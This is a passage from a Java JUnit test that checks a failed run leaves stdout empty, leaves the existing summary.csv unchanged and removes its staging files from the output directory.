        assertTrue(r.out().isEmpty(), "nothing on stdout: " + r.out());
        try {
            assertEquals(
                    "earlier results\n", Files.readString(out.resolve("summary.csv")), "earlier results untouched");
            try (Stream<Path> files = Files.list(dir)) {
                assertTrue(files.noneMatch(p -> p.getFileName().toString().startsWith(".out.")), "no staging left");
            }
            try (Stream<Path> files = Files.list(out)) {
                assertEquals(1, files.count(), "nothing added to the output directory");
            }
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }
}
